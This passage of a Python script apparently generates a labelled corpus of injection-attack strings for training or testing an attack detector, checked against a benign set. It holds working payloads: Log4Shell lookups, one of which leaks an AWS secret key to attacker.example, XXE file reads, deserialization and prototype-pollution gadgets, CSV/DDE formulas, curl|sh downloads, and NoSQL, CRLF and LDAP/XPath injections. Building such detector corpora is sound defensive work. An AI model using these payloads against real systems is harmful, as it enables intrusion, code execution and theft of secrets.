    ("pnr-log4shell+default-lookup", "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.3/e}"),
    ("ua-log4shell-env-dns", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/x}"),
    ("review-log4shell+env-default", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}"),
    ("loyalty-log4shell-localhost-hash", "${jndi:ldap://127.0.0.1#x.attacker.example:1389/a}"),
    ("booking-xml-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE b [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><booking><pnr>&x;</pnr></booking>"),
    ("ota-xml-xxe-oob-dtd", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"https://attacker.example/x.dtd\"> %d;]><OTA_HotelResRQ Version=\"1.0\"/>"),
    ("ota-xml-xxe-imds", "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><OTA_AirBookRQ><Remark>&x;</Remark></OTA_AirBookRQ>"),
    ("booking-xml-entity-expansion", "<!DOCTYPE l [<!ENTITY a \"haha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]><l>&f;</l>"),
    ("booking-xml-xinclude", "<pnr xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hosts\"/></pnr>"),
    ("soap-xxe", "<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY k SYSTEM \"file:///home/app/.ssh/id_rsa\">]><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetBooking><Ref>&k;</Ref></GetBooking></soap:Body></soap:Envelope>"),
    ("upload-svg-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&h;</text></svg>"),
    ("booking-xml-xxe-php-filter", "<!DOCTYPE r [<!ENTITY x SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><r>&x;</r>"),
    ("session-pickle-reduce", "cos\nsystem\n(S'id'\ntR."),
    ("import-yaml-python-apply", "!!python/object/apply:os.system ['id']"),
    ("import-yaml-python-new", "!!python/object/new:subprocess.check_output [['cat', '/etc/passwd']]"),
    ("import-yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"https://attacker.example/y.jar\"]]]]"),
    ("cookie-php-object", "O:13:\"BookingLogger\":1:{s:4:\"file\";s:23:\"/var/www/html/shell.php\";}"),
    ("upload-phar-wrapper", "phar:///var/www/uploads/avatar.jpg/test.txt"),
    ("json-dotnet-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("json-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/o\",\"autoCommit\":true}]"),
    ("json-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://198.51.100.8:1099/x\",\"autoCommit\":true}"),
    ("json-node-serialize", "{\"prefs\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("prefs-proto-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("prefs-constructor-pollution", "{\"constructor\":{\"prototype\":{\"role\":\"supervisor\"}}}"),
    ("query-proto-pollution", "preferences[__proto__][refundApproved]=true"),
    ("prefs-proto-pollution-spawn-gadget", "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}"),
    ("prefs-proto-pollution-ejs-gadget", "{\"loyalty\":{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}}"),
    ("refund-csv-hyperlink", "=HYPERLINK(\"https://attacker.example/r?d=\"&C2&D2,\"View refund\")"),
    ("refund-csv-dde-cmd", "=cmd|' /C powershell -nop -w hidden -c iwr attacker.example/a.ps1|iex'!A1"),
    ("guest-csv-at-sum-dde", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("guest-csv-minus-dde", "-2+3+cmd|' /C calc'!A0"),
    ("guest-csv-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A2),\"//a\")"),
    ("guest-csv-webservice", "=WEBSERVICE(\"https://attacker.example/?n=\"&B3)"),
    ("guest-csv-libreoffice-dde", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_1\")"),
    ("guest-csv-plus-hyperlink", "+HYPERLINK(\"https://attacker.example/claim\",\"Claim EU261 €600\")"),
    ("markup-python-eval", "base*1.1 + __import__('os').system('id')"),
    ("markup-node-eval", "1;require('child_process').execSync('curl https://attacker.example/n|sh')"),
    ("markup-php-eval", "';system('id');//"),
    ("markup-ruby-interpolation", "#{`id`}"),
    ("discount-js-constructor", "price*0.9;this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("note-ssi-exec", "<!--#exec cmd=\"cat /etc/passwd\" -->"),
    ("note-ssi-include", "<!--#include virtual=\"/etc/passwd\" -->"),
    ("note-esi-include", "<esi:include src=\"http://attacker.example/esi.html\"/>"),
    ("import-xslt-java-runtime", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\"><xsl:template match=\"/\"><xsl:value-of select=\"rt:exec(rt:getRuntime(),'id')\"/></xsl:template></xsl:stylesheet>"),
    ("plain-jinja2-probe-class", "{{ ''.__class__ }}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-ssti-el-runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("plain-jinja2-rce", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
]

NOSQLI = [
    ("login-json-ne", "{\"pnr\": \"8DJK2P\", \"lastName\": {\"$ne\": null}}"),
    ("lookup-regex-exists", "{\"lastName\": {\"$regex\": \"^O\"}, \"pnr\": {\"$exists\": true}}"),
    ("query-bracket-ne", "pnr=8DJK2P&lastName[$ne]=x"),
    ("query-bracket-gt-loyalty", "loyalty[$gt]=0&pin[$ne]=0000"),
    ("where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where-string-breakout", "8DJK2P'; return true; var z='"),
    ("where-string-tautology", "x' || '1'=='1"),
    ("where-string-dos", "8DJK2P'; while(true){}; var y='"),
    ("filter-or-ne", "{\"$or\": [{\"pnr\": \"8DJK2P\"}, {\"pnr\": {\"$ne\": \"\"}}]}"),
    ("login-nin-empty", "{\"agent\": \"supervisor\", \"pin\": {\"$nin\": []}}"),
    ("filter-expr-true", "{\"$expr\": {\"$eq\": [1, 1]}}"),
    ("where-function-extract", "{\"$where\": \"function(){ return this.card && this.card.pan.startsWith('4') }\"}"),
    ("pipeline-lookup", "{\"$lookup\": {\"from\": \"payments\", \"pipeline\": [], \"as\": \"p\"}}"),
    ("filter-expr-function-sleep", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(3000); return true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("couch-mango-gt-null", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("query-bracket-regex-options", "lastName[$regex]=^O&lastName[$options]=i&pnr[$ne]="),
    ("lookup-regex-prefix-brute", "{\"lastName\": \"O'NEIL\", \"pnr\": {\"$regex\": \"^8D\"}}"),
    ("login-eq-gt", "{\"username\": {\"$eq\": \"admin\"}, \"password\": {\"$gt\": \"\"}}"),
    ("query-bracket-where", "filter[$where]=this.totalPaid>0 || sleep(3000)"),
    ("review-filter-ne-status", "{\"hotelId\": 1042, \"status\": {\"$ne\": \"hidden\"}, \"$comment\": \"x\"}"),
    ("loyalty-in-regex", "{\"memberId\": {\"$in\": [{\"$regex\": \".*\"}]}}"),
    ("plain-gt-empty", "{\"$gt\": \"\"}"),
    ("plain-ne-null", "{\"$ne\": null}"),
]

CRLF = [
    ("header-set-cookie", "8DJK2P\r\nSet-Cookie: sid=attacker-fixed; Path=/"),
    ("header-location", "/confirmation?ref=8DJK2P\r\nLocation: https://attacker.example/pay"),
    ("header-response-split", "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>Session expired - pay here</h1>"),
    ("header-cors-inject", "x\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("outbound-header-inject", "ABC\r\nX-Agent-Role: supervisor"),
    ("log-forged-entry", "ONEIL/MARY MS\n2024-03-12T08:35:01Z INFO refund approved pnr=8DJK2P amount=1800.00 agent=supervisor"),
    ("log-forged-audit", "8DJK2P\r\n[12/Mar/2024:08:36:00 +0000] AUDIT user=admin action=LOGIN result=SUCCESS ip=10.0.0.2"),
    ("queue-remark-forged", "WCHR\n\nQ8 REMARK: FARE WAIVER APPROVED BY REVENUE MGMT - NO CHG FEE"),
    ("mail-bcc", "mary.oneil@mail.example\r\nBcc: list@attacker.example"),
    ("mail-subject-body-inject", "Booking question\r\nCc: all-guests@hotel.example\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example>Claim your refund</a>"),
    ("mail-from-name-replyto", "Mary O'Neil\nReply-To: refunds@attacker.example"),
    ("smtp-data-smuggle", "Thanks for the stay\r\n.\r\nMAIL FROM:<gm@hotel.example>\r\nRCPT TO:<guest@mail.example>\r\nDATA\r\nSubject: Invoice update\r\n\r\nPlease pay the balance to the new account.\r\n.\r\n"),
    ("header-unicode-truncation", "8DJK2P嘍嘊Set-Cookie: sid=attacker"),
    ("log-unicode-linesep", "MARY\u20282024-03-12 08:40:00 INFO admin login ok user=root"),
    ("header-bare-cr", "8DJK2P\rSet-Cookie: a=b"),
    ("log-json-field-breakout", "MARY\",\"level\":\"INFO\",\"msg\":\"refund approved\",\"agent\":\"supervisor"),
    ("download-disposition-split", "ticket.pdf\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>"),
    ("cache-key-redis-inject", "8DJK2P\r\nFLUSHALL\r\n"),
    ("mail-to-list-inject", "guest@mail.example\r\nTo: everyone@hotel.example"),
    ("header-host-override", "en-GB\r\nX-Forwarded-Host: attacker.example"),
    ("log-fake-error-multiline", "4XQ8LM\nERROR PaymentGateway: card 4111********1111 declined, retry at https://attacker.example/pay"),
    ("sms-gateway-newline-command", "+44 7700 900123\nAT+CMGS=\"+447700900999\""),
    ("mail-subject-newline-header", "Refund 8DJK2P\nX-Priority: 1\nReply-To: finance@attacker.example"),
    ("header-content-length-smuggle", "x\r\nContent-Length: 44\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    ("log-syslog-forge", "O'NEIL\n<13>Mar 12 08:41:00 booking-api sshd[1]: Accepted password for root from 10.0.0.2"),
    ("plain-crlf-set-cookie", "\r\nSet-Cookie: admin=1"),
    ("plain-lf-log", "\nINFO login success user=admin"),
    ("plain-crlf-location", "\r\nLocation: https://attacker.example/"),
]

LDAP_XPATH = [
    ("agent-login-ldap-or-breakout", "*)(uid=*))(|(uid=*"),
    ("agent-login-ldap-true-filter", "admin)(&)"),
    ("agent-login-ldap-password-wildcard", "supervisor)(|(userPassword=*)"),
    ("directory-ldap-objectclass", "*)(objectClass=*"),
    ("directory-ldap-attr-probe", "MARY*)(memberOf=cn=revenue-admins,ou=groups,dc=airline,dc=example"),
    ("agent-login-ldap-blind-prefix", "agent1)(userPassword=a*"),
    ("staff-search-ldap-mail-wildcard", "o*)(|(mail=*"),
    ("agent-login-ldap-nullbyte", "*)(cn=*))%00"),
    ("directory-ldap-description-leak", "*)(description=*pin*"),
    ("booking-xpath-tautology", "8DJK2P' or '1'='1"),
    ("booking-xpath-union", "x'] | //agent/password | //booking[pnr='x"),
    ("booking-xpath-boolean-count", "' or count(//agent)=3 or 'a'='b"),
    ("agent-xpath-blind-substring", "' or substring(//agent[1]/pin,1,1)='4' or 'a'='b"),
    ("booking-xpath-name-probe", "' or name(/*[1])='bookings' or 'x'='y"),
    ("agent-xpath-string-length", "x' or string-length(//agent[login='admin']/password)>8 or 'a'='b"),
    ("booking-xpath-paren-breakout", "') or ('1'='1"),
    ("room-xpath-numeric", "1 or 1=1"),
    ("booking-xpath-doc-oob", "' or doc('http://attacker.example/x')//a or 'a'='b"),
    ("plain-ldap-wildcard-close", "*)(|(uid=*"),
    ("plain-xpath-tautology", "' or 1=1 or ''='"),
    ("plain-ldap-objectclass", "*))(|(objectClass=*"),
]

LITERAL_GROUPS = [
    ("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI), ("traversal", TRAVERSAL), ("ssrf", SSRF),
    ("code", CODE), ("nosqli", NOSQLI), ("crlf", CRLF), ("ldap-xpath", LDAP_XPATH),
]

# ---------------------------------------------------------------------------
# Computed part: encodings of hand-written base payloads, small templates
# ---------------------------------------------------------------------------

def urlenc(s):
    return quote(s, safe="")


def urlenc2(s):
    return quote(quote(s, safe=""), safe="")


def json_unicode(s, chars="<>_$'\""):
    return "".join("\\u%04x" % ord(c) if c in chars else c for c in s)


# (category, base class, base payload, encoding)
ENCODED = [
    ("sqli", "pnr-tautology", "8DJK2P' OR 'a'='a'-- ", "urlenc"),
    ("sqli", "ticket-union", "125-2345678901' UNION SELECT login, pwd FROM agents-- -", "urlenc"),
    ("sqli", "loyalty-time-sleep", "12345678 AND SLEEP(6)", "urlenc"),
    ("sqli", "pax-name-tautology", "SMITH' OR 'q'='q", "urlenc2"),
    ("sqli", "hotel-search-union", "Porto%' UNION SELECT email, password FROM users-- -", "urlenc2"),
    ("sqli", "pnr-stacked-drop", "4XQ8LM'; DROP TABLE pnr_history;--", "urlenc"),
    ("xss", "review-img-onerror", "<img src=x onerror=alert(document.cookie)>", "urlenc"),
    ("xss", "pax-name-script-tag", "ROSSI/LUCA MR<script>alert(document.domain)</script>", "urlenc"),
    ("xss", "attr-breakout-svg", "\"><svg onload=alert(1)>", "urlenc2"),
    ("xss", "review-details-ontoggle", "<details open ontoggle=fetch('//attacker.example/'+document.cookie)>", "urlenc"),
    ("xss", "json-img-onerror", "<img src=x onerror=alert(origin)>", "json-unicode"),
    ("cmdi", "pnr-semicolon", "8DJK2P;cat /etc/passwd", "urlenc"),
    ("cmdi", "airport-newline", "CDG\nid", "urlenc"),
    ("cmdi", "flight-dollar-subst", "AF1381$(id)", "urlenc2"),
    ("cmdi", "ticket-pdf-pipe", "e-ticket.pdf | curl https://attacker.example/t.sh | sh", "urlenc"),
    ("traversal", "plain-dotdot", "../../../etc/passwd", "urlenc"),
    ("traversal", "voucher-dotdot", "vouchers/../../../../etc/shadow", "urlenc"),
    ("traversal", "invoice-dotdot", "../../../../app/config/secrets.yml", "urlenc2"),
    ("traversal", "voucher-backslash", "..\\..\\..\\windows\\win.ini", "urlenc2"),
    ("ssrf", "image-url-loopback", "http://127.0.0.1:8080/admin", "host-percent"),
    ("ssrf", "image-url-aws-imds", "http://169.254.169.254/latest/meta-data/", "urlenc"),
    ("ssrf", "webhook-localhost", "http://localhost:9200/_search?q=*", "urlenc2"),
    ("code", "pax-name-log4shell", "${jndi:ldap://pax.attacker.example/a}", "urlenc"),
    ("code", "note-jinja2-globals", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "urlenc"),
    ("code", "prefs-proto-pollution", "{\"__proto__\":{\"isAdmin\":true}}", "json-unicode"),
    ("code", "remark-log4shell", "${jndi:rmi://198.51.100.3:1099/o}", "urlenc2"),
    ("code", "session-pickle-reduce", "cposix\nsystem\n(S'curl -s https://attacker.example/p|sh'\ntR.", "base64"),
    ("nosqli", "query-bracket-ne", "lastName[$ne]=x&pnr[$ne]=x", "urlenc-brackets"),
    ("nosqli", "login-json-ne", "{\"pin\": {\"$ne\": \"0000\"}}", "json-unicode"),
    ("crlf", "header-set-cookie", "8DJK2P\r\nSet-Cookie: sid=fixed", "urlenc"),
    ("crlf", "header-location", "en\r\nLocation: https://attacker.example/", "urlenc2"),
    ("crlf", "log-forged-entry", "SMITH\nINFO refund approved amount=999", "urlenc"),
    ("crlf", "header-unicode-truncation", "8DJK2P嘍嘊Set-Cookie: sid=attacker2", "urlenc"),
    ("ldap-xpath", "agent-login-ldap-true-filter", "admin)(&)", "urlenc"),
    ("ldap-xpath", "booking-xpath-tautology", "4XQ8LM' or '1'='1", "urlenc"),
]

ENCODING_TAG = {
    "urlenc": "urlenc", "urlenc2": "double-urlenc", "json-unicode": "unicode-escape",
    "base64": "base64", "host-percent": "percent-host", "urlenc-brackets": "urlenc",
}


def encode(value, how):
    if how == "urlenc":
        return urlenc(value)
    if how == "urlenc2":
        return urlenc2(value)
    if how == "json-unicode":
        return json_unicode(value)
    if how == "base64":
        return base64.b64encode(value.encode("latin-1")).decode("ascii")
    if how == "host-percent":
        scheme, rest = value.split("://", 1)
        host, path = rest.split("/", 1)
        hostpart, port = host.split(":")
        return "%s://%s:%s/%s" % (scheme, "".join("%%%02x" % ord(c) for c in hostpart), port, path)
    if how == "urlenc-brackets":
        return value.replace("[", "%5B").replace("]", "%5D").replace("$", "%24")
    raise ValueError(how)


# Templates over hand-written pools: a domain identifier followed by an injected tail.
PNRS = ["8DJK2P", "4XQ8LM", "7QW3RT", "K2M9PZ", "B5TR4N", "Q8HX3C"]
TICKETS = ["125-2345678901", "057-2345123456", "220-1987654321", "176-5550123498"]
SQL_TAILS = [
    ("boolean-substr", "' AND SUBSTR((SELECT pwd FROM agents LIMIT 1),%d,1)='%s'-- "),
    ("time-if", "' AND IF(ASCII(SUBSTRING(user(),%d,1))>%d,SLEEP(3),0)-- -"),
]
CMD_TAILS = ["; curl -s https://attacker.example/%s | sh", " && wget -qO- http://203.0.113.%d/s | sh",
             "$(nslookup %s.attacker.example)"]
SSRF_PORTS = [22, 25, 3306, 5432, 6379, 8500, 9000, 11211, 27017]
XSS_NAMES = ["KOWALSKA/ANNA MS", "TANAKA/YUKI MS", "OKAFOR/KWAME MR", "LEFEBVRE/JEAN-LUC MR"]
XSS_SINKS = ["<img src=x onerror=alert(%d)>", "<svg onload=alert(%d)>", "<iframe src=javascript:alert(%d)>"]


def templated(rng):
    out = []
    for i in range(6):
        p = rng.choice(PNRS)
        name, tail = SQL_TAILS[i % 2]
        if name == "boolean-substr":
            v = p + tail % (rng.randrange(1, 20), rng.choice("abcdefghijklmnopqrstuvwxyz0123456789"))
        else:
            v = p + tail % (rng.randrange(1, 20), rng.randrange(48, 122))
        out.append(("sqli", "pnr-" + name, v))
    for i in range(5):
        t = rng.choice(TICKETS)
        tail = CMD_TAILS[i % 3]
        if "%d" in tail:
            v = t + tail % rng.randrange(1, 255)
        else:
            v = t + tail % rng.choice(["t", "tk", "e", "x1", "q"])
        out.append(("cmdi", "ticket-" + ["semicolon-curl", "and-wget", "subst-dns"][i % 3], v))
    for i in range(1):
        port = SSRF_PORTS[rng.randrange(len(SSRF_PORTS))]
        v = "http://127.0.0.1:%d/" % port
        out.append(("ssrf", "image-url-port-scan", v))
    for i in range(6):
        v = rng.choice(XSS_NAMES) + XSS_SINKS[i % 3] % rng.randrange(1, 99)
        out.append(("xss", "pax-name-" + ["img-onerror", "svg-onload", "iframe-javascript"][i % 3], v))
    for i in range(4):
        v = "%s/../../../../%s" % (rng.choice(["vouchers", "tickets", "invoices", "itineraries"]),
                                    rng.choice(["etc/passwd", "etc/hosts", "proc/self/environ", "etc/shadow", "app/.env"]))
        out.append(("traversal", "download-dotdot", v))
    for i in range(1):
        v = "${jndi:%s://%s.attacker.example/%s}" % (rng.choice(["ldap", "ldaps", "rmi", "dns"]),
                                                     rng.choice(PNRS).lower(), rng.choice(["a", "b", "o", "x"]))
        out.append(("code", "pnr-log4shell", v))
    return out


def main():
    rng = random.Random(SEED)
    rows = []
    seen = {}
    n_lit = 0
    lit_per = {}
    for cat, group in LITERAL_GROUPS:
        lit_per[cat] = 0
        for cls, v in group:
            rows.append((cat, cls, v))
            lit_per[cat] += 1
            n_lit += 1
    for cat, cls, base, how in ENCODED:
        rows.append((cat, "%s+%s" % (cls, ENCODING_TAG[how]), encode(base, how)))
    for cat, cls, v in templated(rng):
        if any(v == r[2] for r in rows):
            continue
        rows.append((cat, cls, v))
    order = [c for c, _ in LITERAL_GROUPS]
    rows.sort(key=lambda r: order.index(r[0]))  # stable: keeps literal-then-computed order per category
    for cat, cls, v in rows:
        if not isinstance(v, str) or not v or len(v) > 1800:
            raise SystemExit("bad value: %r" % (v,))
        if v in seen:
            raise SystemExit("duplicate value: %r" % (v,))
        seen[v] = cls
    benign = Path(__file__).with_name("benign.jsonl")
    if benign.exists():
        with open(benign, encoding="utf-8") as f:
            for line in f:
                if json.loads(line)["value"] in seen:
                    raise SystemExit("value also in benign.jsonl: " + line)
    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    counts = {}
    for cat, _, _ in rows:
        counts[cat] = counts.get(cat, 0) + 1
    for cat in order:
        print("%-11s %3d  (literals %d)" % (cat, counts[cat], lit_per[cat]))
    print("total %d attacks, %d hand-written literals (%.1f%%) -> %s" % (len(rows), n_lit, 100.0 * n_lit / len(rows), out.name))


if __name__ == "__main__":
    main()
